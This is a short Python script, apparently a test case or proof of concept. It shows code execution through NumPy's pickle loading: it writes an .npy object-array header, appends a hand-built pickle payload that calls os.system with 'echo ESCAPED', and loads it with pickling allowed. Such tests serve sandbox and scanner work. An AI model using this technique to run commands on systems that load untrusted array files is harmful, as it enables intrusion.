# kind: numpy
# effect: prints ESCAPED
import io

import numpy as np

header = io.BytesIO()
np.lib.format.write_array_header_1_0(header, {"descr": "|O", "fortran_order": False, "shape": (1,)})
header.write(b"cos\nsystem\n(S'echo ESCAPED'\ntR.")
header.seek(0)
try:
    np.lib.format.read_array(header, True)
except (ValueError, TypeError, AttributeError):
    pass
